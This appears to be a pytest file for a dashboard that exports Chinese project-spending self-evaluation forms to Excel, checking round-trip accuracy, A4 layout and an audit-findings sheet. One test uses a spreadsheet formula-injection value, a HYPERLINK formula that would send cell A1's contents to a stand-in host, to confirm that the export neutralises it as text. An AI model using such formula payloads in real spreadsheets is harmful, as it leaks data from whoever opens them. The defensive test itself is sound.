"""A form handed back as a form: the .xlsx in the national layout reads back as the same form, prints on
A4, keeps form text as text, and carries the audit's findings on a sheet of its own."""

from __future__ import annotations

import io
from pathlib import Path

from openpyxl import load_workbook

from dashboard.audit import review
from dashboard.core import texts
from dashboard.ingest.files import parse_file
from dashboard.outputs import downloads, form_sheet
from dashboard.ui import download_buttons
from tests.seed_truth import record_differences, seed_records
from tests.unit.test_audit_samples import form_from_record
from tests.unit.test_pdf_reader import regional_variant

TRUTH = seed_records()


def read_back(data: bytes, folder: Path) -> list:
    path = folder / "表.xlsx"
    path.write_bytes(data)
    return parse_file(path, path.name).forms


def test_every_seed_form_reads_back_the_same(tmp_path):
    records = [record | {"year": 2021} for record in TRUTH]
    forms = read_back(form_sheet.workbook_bytes(records), tmp_path)
    assert len(forms) == 22
    for form, want in zip(forms, records, strict=True):
        assert record_differences(form.to_record(), want) == [], want["project_name"]


def test_a_wanyuan_form_reads_back_in_yuan_to_the_cent(tmp_path):
    records = [regional_variant(TRUTH[2]), regional_variant(TRUTH[16])]
    forms = read_back(form_sheet.workbook_bytes(records), tmp_path)
    for form, want in zip(forms, records, strict=True):
        assert record_differences(form.to_record(), want) == []
    assert forms[1].funds.total.annual_budget == 10525876.51


def test_numbers_are_numbers_text_is_text_and_the_page_is_a4(tmp_path):
    record = TRUTH[2] | {"year": 2021, "project_name": '=HYPERLINK("http://x/"&A1,"点击")'}
    book = load_workbook(io.BytesIO(form_sheet.workbook_bytes([record])))
    sheet = book.worksheets[0]
    values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell for cell in values if cell.data_type == "f"]  # no live formula anywhere
    assert any(cell.value == "'" + record["project_name"] for cell in values)
    numbers = {cell.value for cell in values if cell.data_type == "n"}
    assert {118800, 0.9493} <= {round(n, 4) for n in numbers}  # 项目金额, 执行率 94.93% as a fraction
    assert int(sheet.page_setup.paperSize) == int(sheet.PAPERSIZE_A4) and int(sheet.page_setup.fitToWidth) == 1
    assert sheet["A1"].value == "2021年度项目支出绩效自评表"


def test_the_download_has_the_form_and_its_findings(tmp_path):
    form = form_from_record(TRUTH[17] | {"year": 2021})  # 购置费 13782500: 采购服装数量 lost 0.8
    review.check_form(form)
    assert form.checks  # 采购服装数量 lost points without a reason
    book = load_workbook(io.BytesIO(downloads.forms_as_printed_bytes([form])))
    assert book.sheetnames == ["1 购置费", texts.FORM_SHEET_CHECKS]
    findings = list(book[texts.FORM_SHEET_CHECKS].iter_rows(values_only=True))
    assert findings[0][0] == texts.COL["project_name"]
    assert len([row for row in findings[1:] if row and row[0] == "购置费"]) == len(form.checks)


def test_the_filtered_forms_download_has_a_sheet_per_form(sample_db, monkeypatch):
    from dashboard.queries.filters import Filters
    from dashboard.store import connect

    monkeypatch.setenv(connect.DB_ENV_VAR, str(sample_db))
    book = load_workbook(io.BytesIO(download_buttons.printed_forms_bytes(Filters(types=("购置费",)))))
    assert len(book.sheetnames) == 3 + 1  # the sample's three 购置费 forms, then the findings
    assert all("购置费" in name for name in book.sheetnames[:3])
